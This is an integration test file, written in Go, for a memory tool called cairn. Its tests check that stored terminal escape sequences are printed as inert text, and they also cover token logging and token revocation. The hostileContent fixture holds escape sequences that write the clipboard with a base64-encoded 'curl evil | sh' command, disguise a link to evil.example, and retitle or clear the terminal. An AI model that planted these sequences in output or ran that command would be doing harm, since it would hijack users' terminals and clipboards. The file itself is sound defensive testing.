//go:build integration

package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The holes of issue 29 as a user meets them: through the real binary.

// hostileContent is what a writer (an agent, an import, a page added as a
// document) plants to command the terminal that shows it: OSC 52 writes
// the clipboard, OSC 0 sets the window title, OSC 8 disguises a link,
// CSI 2J clears the screen; a DCS string, an 8-bit CSI, BEL and NUL.
const hostileContent = "deploy notes \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 for the kettle service \x1b]0;pwned\x07" +
	"\x1b]8;;https://evil.example\x1b\\click here\x1b]8;;\x1b\\ \x1b[2J\x1bPq#0;2;0;0;0\x1b\\ \u009b31m red \x00 end"

// unsafeByte names the first byte in s a terminal or an agent would take
// for a command (C0 but newline and tab, DEL, C1), or "".
func unsafeByte(s string) string {
	for i, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
			return fmt.Sprintf("U+%04X at byte %d", r, i)
		}
	}
	return ""
}

// Stored escape sequences never reach the terminal: list, show, history,
// recall and the error path print them as text, with cairn serving the
// store and with the store opened directly; the hook's injection and MCP
// memory_search hand the agent none.
func TestStoredEscapesNeverReachTheTerminal(t *testing.T) {
	home := t.TempDir()
	addr := freeAddr(t)
	srv := startServer(t, home, addr)
	base := "http://" + addr
	project := filepath.Join(t.TempDir(), "kettle")
	code, r := postJSON(t, base+"/api/memory/remember", map[string]any{"content": hostileContent, "project": project, "tags": []string{"deploy"}})
	if code != 200 {
		t.Fatalf("remember: %d %v", code, r)
	}
	id, _ := r["id"].(string)
	// A reason is free text: it is stored as written, and shown as text.
	req, _ := http.NewRequest("PATCH", base+"/api/memory/"+id, strings.NewReader(`{"content":"deploy notes for the kettle service, rewritten \u001b]0;again\u0007","reason":"fix \u001b[2J\u001b]52;c;eA==\u0007 now"}`))
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("patch: %v %v", resp, err)
	}
	resp.Body.Close()

	check := func(mode string) {
		t.Helper()
		for _, args := range [][]string{
			{"list", "--all"}, {"list", "--project", project}, {"show", id}, {"history", id},
			{"recall", "--project", project, "kettle deploy notes"},
			// An argument cannot hold NUL; the rest comes back in the answer.
			{"remember", "--project", project, "--tags", "deploy", strings.ReplaceAll(hostileContent, "\x00", "") + " " + mode},
		} {
			out, errOut, code := cli(t, home, args...)
			if code != 0 {
				t.Fatalf("%s: cairn %v: exit %d: %s", mode, args[0], code, errOut)
			}
			if b := unsafeByte(out + errOut); b != "" {
				t.Errorf("%s: cairn %s printed %s:\n%q", mode, args[0], b, out+errOut)
			}
			if args[0] != "remember" && args[0] != "history" && !strings.Contains(out, "kettle") {
				t.Errorf("%s: cairn %s lost the text around the escapes: %q", mode, args[0], out)
			}
		}
	}
	check("server")

	// The hook hands the agent the memory, not its escapes.
	hook := hookJSON(map[string]any{"session_id": "cc-esc", "cwd": project, "hook_event_name": "UserPromptSubmit",
		"prompt": "what are the deploy notes for the kettle service?"})
	out, _, _ := runHookBin(t, home, nil, hook, "user-prompt-submit")
	var got struct {
		H struct {
			Context string `json:"additionalContext"`
		} `json:"hookSpecificOutput"`
	}
	if err := json.Unmarshal([]byte(out), &got); err != nil || !strings.Contains(got.H.Context, "kettle") {
		t.Fatalf("prompt hook: %v %q", err, out)
	}
	if b := unsafeByte(got.H.Context); b != "" {
		t.Errorf("the hook injected %s: %q", b, got.H.Context)
	}
	srv.stop(t)

	check("direct")

	// MCP memory_search: the text the model reads and the structured copy.
	cs, _ := mcpStdio(t, home, "esc-agent")
	defer cs.Close()
	res := mcpToolCall(t, cs, "memory_search", map[string]any{"query": "kettle deploy notes", "project": project})
	b, _ := json.Marshal(res)
	var decoded any
	_ = json.Unmarshal(b, &decoded)
	if s := fmt.Sprint(decoded); unsafeByte(s) != "" || !strings.Contains(s, "kettle") {
		t.Errorf("memory_search handed the agent %s: %q", unsafeByte(s), s)
	}
}

// `forget --query` forgets what holds every word, not what shares one:
// "zebra-quokka json" leaves a postmortem that only says JSON. With
// --json, a forget that forgot nothing says so.
func TestForgetQueryNeedsEveryWord(t *testing.T) {
	home := t.TempDir()
	project := t.TempDir()
	cliOK(t, home, "remember", "--project", project, "postmortem: the JSON encoder dropped fields from the nightly export")
	out := cliOK(t, home, "forget", "--project", project, "--query", "zebra-quokka json", "--yes", "--json")
	var res map[string]any
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("forget --json: %v %q", err, out)
	}
	if res["mode"] != "preview" || fmt.Sprint(res["count"]) != "0" {
		t.Errorf("forget --json: %v", res)
	}
	if list := cliOK(t, home, "list", "--project", project); !strings.Contains(list, "postmortem") {
		t.Fatalf("the postmortem was forgotten:\n%s", list)
	}

	cliOK(t, home, "remember", "--project", project, "zebra-quokka fixtures are stored as json")
	out = cliOK(t, home, "forget", "--project", project, "--query", "zebra-quokka json", "--yes", "--json")
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("forget --json: %v %q", err, out)
	}
	if res["mode"] == "preview" || fmt.Sprint(res["deleted"]) != "1" {
		t.Errorf("forget --json after forgetting: %v", res)
	}
	list := cliOK(t, home, "list", "--project", project)
	if !strings.Contains(list, "postmortem") || strings.Contains(list, "fixtures") {
		t.Fatalf("after forget:\n%s", list)
	}
	// --any is the old behaviour, asked for by name.
	out = cliOK(t, home, "forget", "--project", project, "--query", "zebra-quokka json", "--any", "--yes")
	if !strings.Contains(out, "forgot 1 of 1") {
		t.Fatalf("forget --any: %s", out)
	}
}

// A --db naming a store that does not exist is an error (a typo would
// otherwise answer "no memories match" from a new empty store), and
// creates nothing; --create makes it.
func TestMissingDatabaseIsAnError(t *testing.T) {
	home := t.TempDir()
	db := filepath.Join(t.TempDir(), "nonexistent", "dir", "x.db")
	out, errOut, code := cli(t, home, "list", "--db", db)
	if code == 0 || !strings.Contains(errOut, "no database at "+db) || !strings.Contains(errOut, "--create") {
		t.Fatalf("list --db missing: exit %d\n%s%s", code, out, errOut)
	}
	if _, err := os.Stat(filepath.Dir(db)); !os.IsNotExist(err) {
		t.Fatalf("the folders were created: %v", err)
	}
	cliOK(t, home, "remember", "--db", db, "--create", "the first memory of a new store")
	if out := cliOK(t, home, "list", "--all", "--db", db); !strings.Contains(out, "first memory") {
		t.Fatalf("list: %s", out)
	}
	// The default store is cairn's own: made on first use, as before.
	cliOK(t, home, "list")
}

// No credential reaches cairn.log: a failing request's logged path and
// error, at the default level.
func TestLogFileHoldsNoSecret(t *testing.T) {
	home := t.TempDir()
	addr := freeAddr(t)
	srv := startServer(t, home, addr)
	const gh = "ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
	// Refused browser requests are logged with their path; so are failed ones.
	req, _ := http.NewRequest("POST", "http://"+addr+"/api/memory/remember/"+gh, strings.NewReader(`{}`))
	req.Header.Set("Content-Type", "text/plain")
	req.Header.Set("Origin", "https://evil.example")
	if resp, err := http.DefaultClient.Do(req); err == nil {
		resp.Body.Close()
	}
	srv.stop(t)
	var logs []string
	_ = filepath.WalkDir(home, func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.HasPrefix(d.Name(), "cairn.log") {
			logs = append(logs, p)
		}
		return nil
	})
	if len(logs) == 0 {
		t.Fatalf("no cairn.log under %s", home)
	}
	all := srv.stderr.String()
	for _, l := range logs {
		b, _ := os.ReadFile(l)
		all += string(b)
	}
	if !strings.Contains(all, "refused browser request") {
		t.Fatalf("the request was not logged: the test proves nothing\n%s", all)
	}
	if strings.Contains(all, gh) {
		t.Fatalf("a token reached the log:\n%s", all)
	}
}

// cairn token revoke, by id: the running team server refuses the token at
// its next request.
func TestTokenRevokeCommand(t *testing.T) {
	home := t.TempDir()
	cmd := cairnCmd(home, "token", "create", "--role", "agent", "--ttl", "1h")
	var errb strings.Builder
	cmd.Stderr = &errb
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("token create: %v %s", err, errb.String())
	}
	tok := strings.TrimSpace(string(out))
	if !strings.Contains(errb.String(), "cairn token revoke ") {
		t.Fatalf("token create does not say how to revoke it: %q", errb.String())
	}
	addr := freeAddr(t)
	t.Setenv("CAIRN_AUTH_MODE", "team")
	srv := startServer(t, home, addr)
	defer srv.stop(t)
	get := func() int {
		req, _ := http.NewRequest("GET", "http://"+addr+"/api/memories", nil)
		req.Header.Set("Authorization", "Bearer "+tok)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if c := get(); c != 200 {
		t.Fatalf("before revoke: %d", c)
	}
	if out := cliOK(t, home, "token", "revoke", tok); !strings.Contains(out, "revoked token") {
		t.Fatalf("revoke: %s", out)
	}
	if c := get(); c != 401 {
		t.Fatalf("after revoke: %d", c)
	}
	if out := cliOK(t, home, "token", "revoke", tok); !strings.Contains(out, "already revoked") {
		t.Fatalf("revoke again: %s", out)
	}
}
